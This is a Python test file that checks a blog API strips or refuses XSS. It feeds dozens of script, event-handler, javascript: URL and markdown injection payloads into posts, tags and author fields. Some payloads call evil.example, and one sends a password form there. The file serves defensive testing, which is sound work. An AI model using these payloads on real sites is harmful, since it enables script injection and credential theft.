"""What an author can write never runs in a reader's browser."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest

from tests import factories
from tests.callers import Caller, ContractClient

ACTIVE = {
    "applet", "base", "button", "canvas", "embed", "form", "frame", "frameset", "iframe", "link",
    "math", "meta", "noscript", "object", "option", "portal", "script", "select", "slot", "style",
    "svg", "template", "textarea", "title", "xml", "xmp", "video", "audio", "source",
}  # fmt: skip
ADDRESSES = {
    "action",
    "cite",
    "data",
    "formaction",
    "href",
    "poster",
    "src",
    "srcset",
    "xlink:href",
}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnError="alert(1)">',
    "<img/src=x/onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<img srcset='javascript:alert(1) 1x'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action='https://evil.example/'><input name=password type=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea><title></title><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6a;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '[x](https://example.org/ "a\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)> {onclick=alert(1)}",
    "[^a]\n\n[^a]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "- [ ] <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<x onpointerrawupdate=alert(1)>x</x>",
    "</p><script>alert(1)</script><p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<img src=x onerror=alert(1)>",
    "\ufeff<script\u2028>alert(1)</script>",
]  # fmt: skip


class Inspector(HTMLParser):
    """Collects everything in HTML that could do something."""

    def __init__(self) -> None:
        """Nothing found yet."""
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Elements, handlers, styles and addresses."""
        if tag in ACTIVE:
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "srcset", "formaction"}:
                self.dangers.append(f"{name}={value}")
            if name in ADDRESSES and not is_harmless(value or ""):
                self.dangers.append(f"{name}={value}")
            if tag == "input" and name == "type" and value != "checkbox":
                self.dangers.append(f"input of type {value}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """The same."""
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        """Old browsers read conditions in comments."""
        self.dangers.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        """Declarations have no place in a text."""
        self.dangers.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        """Neither have instructions."""
        self.dangers.append(f"<?{data}>")


def is_harmless(address: str) -> bool:
    """Whether a browser, which drops controls and spaces, would only fetch or follow it."""
    seen = re.sub(r"[\x00-\x20]", "", address).lower()
    scheme, colon, _ = seen.partition(":")
    return not colon or "/" in scheme or "#" in scheme or "?" in scheme or scheme in SAFE_SCHEMES


def dangers(html: str) -> list[str]:
    """All that could do something."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.dangers


@pytest.mark.parametrize(
    "html",
    [
        "<p onclick=x>",
        "<script>",
        "<a href='java\nscript:x'>",
        "<img src='data:x'>",
        "<input type=password>",
        "<!-- x -->",
        "<p style=x>",
    ],
)
def test_the_inspector_sees_dangers(html: str) -> None:
    assert dangers(html)


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_in_the_text_of_a_post_runs(
    editor: Caller, client: ContractClient, vector: str
) -> None:
    """Also in the middle of a text, in each other field, and where an excerpt is made of it."""
    line = " ".join(vector.split())
    tag = factories.a_tag(editor, name=line[:100], description=vector)
    person = factories.an_author(editor, name=line[:200], bio=vector)
    post = factories.a_published_post(
        editor,
        title=line[:300],
        body=f"{vector}\n\ntext **{vector}** text\n\n> {vector}",
        excerpt=vector,
        cover={"url": "/a.jpg", "alt": vector, "caption": vector},
        seo={"title": line, "description": line},
        tag_ids=[tag["id"]],
        author_ids=[person["id"]],
    )
    plain = factories.a_published_post(editor, title="x", body=vector)

    answer = client.get(f"/api/v1/posts/{post['slug']}")

    shown = answer.get_json()
    assert dangers(shown["html"]) == []
    assert dangers(client.get(f"/api/v1/posts/{plain['slug']}").get_json()["html"]) == []
    # Everything else is text: it comes back as it was written, in JSON that is not sniffed.
    assert shown["title"] == post["title"]
    assert shown["excerpt"] == vector
    assert shown["tags"][0]["name"] == tag["name"]
    assert shown["authors"][0]["name"] == person["name"]
    assert answer.content_type == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert re.fullmatch("[a-z0-9-]+", shown["slug"])


UNSAFE_ADDRESSES = {
    "javascript": "javascript:alert(1)",
    "capitals": "JavaScript:alert(1)",
    "space before": " javascript:alert(1)",
    "tab within": "java\tscript:alert(1)",
    "newline within": "java\nscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "blob": "blob:https://example.org/1",
    "mailto": "mailto:a@example.org",
    "other host": "//evil.example/x",
    "other host by backslash": "/\\evil.example/x",
    "backslashes": "\\\\evil.example/x",
    "backslash in host": "https://example.org\\@evil.example",
    "tab before the second slash": "/\t/evil.example",
    "relative": "images/a.jpg",
    "quote": 'https://example.org/" onload="alert(1)',
    "angle brackets": "https://example.org/<script>",
    "space": "https://example.org/a b",
    "no-break space": "https://example.org/\u00a0",
    "control character": "https://example.org/\u0007",
    "NUL": "https://example.org/\u0000",
    "next line": "https://example.org/\u0085",
    "bidi override": "https://example.org/\u202egpj",
    "zero width space": "https://exa\u200bmple.org/",
    "newline at the end": "https://example.org/\n",
    "scheme alone": "https://",
    "one slash": "https:/example.org",
    "empty": "",
    "number": 5,
    "too long": "https://example.org/" + "a" * 2000,
}
FIELDS: dict[str, tuple[str, str, Any]] = {
    "cover": ("posts", "#/cover/url", lambda url: {"cover": {"url": url}}),
    "canonical_url": (
        "posts",
        "#/seo/canonical_url",
        lambda url: {"seo": {"canonical_url": url}},
    ),
    "avatar_url": ("authors", "#/avatar_url", lambda url: {"avatar_url": url}),
    "website_url": ("authors", "#/website_url", lambda url: {"website_url": url}),
}


@pytest.mark.parametrize("field", FIELDS)
def test_an_unsafe_address_is_refused(editor: Caller, field: str) -> None:
    kind, pointer, body_with = FIELDS[field]
    make = {"posts": factories.a_post, "authors": factories.an_author}[kind]
    known = make(editor)
    naming = {"posts": {"title": "New"}, "authors": {"name": "New"}}[kind]

    for name, url in UNSAFE_ADDRESSES.items():
        for answer in (
            editor.post(f"/api/v1/manage/{kind}", json={**naming, **body_with(url)}),
            editor.patch(f"/api/v1/manage/{kind}/{known['id']}", if_match="*", json=body_with(url)),
        ):
            assert answer.status_code == 422, name
            errors = answer.get_json()["errors"]
            assert {error["pointer"] for error in errors} == {pointer}, name
    assert editor.get(f"/api/v1/manage/{kind}").get_json()["data"] == [known]


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize(
    "url",
    ["https://example.org", "http://example.org:8080/a?b=c&d#e", "HTTPS://EXAMPLE.ORG/%20",
     "/a/b.jpg", "/", "https://пример.рф/ы", "https://[::1]/"],
)  # fmt: skip
def test_a_safe_address_is_kept_as_it_is(editor: Caller, field: str, url: str) -> None:
    kind, pointer, body_with = FIELDS[field]
    make = {"posts": factories.a_post, "authors": factories.an_author}[kind]

    found: Any = make(editor, **body_with(url))

    for step in pointer.removeprefix("#/").split("/"):
        found = found[step]
    assert found == url
